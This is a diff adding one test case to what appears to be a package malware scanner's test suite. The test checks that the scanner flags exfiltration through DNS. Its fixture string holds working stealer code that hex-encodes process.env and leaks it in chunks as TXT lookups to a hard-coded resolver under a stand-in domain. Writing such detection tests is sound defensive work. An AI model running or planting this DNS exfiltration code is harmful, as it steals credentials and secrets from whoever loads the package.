@@ -187,6 +187,23 @@ module.exports = { report };
   });
 });
 
+describe('DNS through a resolver of its own', () => {
+  it("the environment sent as TXT lookups through the file's own dns.Resolver is exfiltration at load (node-ipc stealer, 2026); a resolver asked for a fixed name is not", () => {
+    const stealer = (name: string) => `const dns = require('dns');
+const r = new dns.promises.Resolver({ timeout: 4000 });
+r.setServers(['203.0.113.53']);
+const blob = Buffer.from(JSON.stringify(process.env)).toString('hex');
+const chunks = blob.match(/.{1,60}/g) || [];
+(async () => { for (let j = 0; j < chunks.length; j++) { const q = ${name}; await r.resolveTxt(q).catch(() => {}); } })();
+`;
+    const r = scan({ 'index.js': stealer("chunks[j] + '.' + j + '.t.azurestaticprovider.example'") }, { main: 'index.js' });
+    expect(r.findings.find((f) => f.detector === 'exfiltration')?.data?.sink).toBe('r.resolveTxt() of a dns.Resolver');
+    expect(r.level).toMatch(/high|critical/);
+    const fixed = scan({ 'index.js': stealer("'_dmarc.example.org'") }, { main: 'index.js' });
+    expect(fixed.ids).not.toContain('exfiltration/flow');
+  });
+});
+
 describe('values followed into lists and local calls', () => {
   const sender = `const https = require('https');
 function notify(text) {
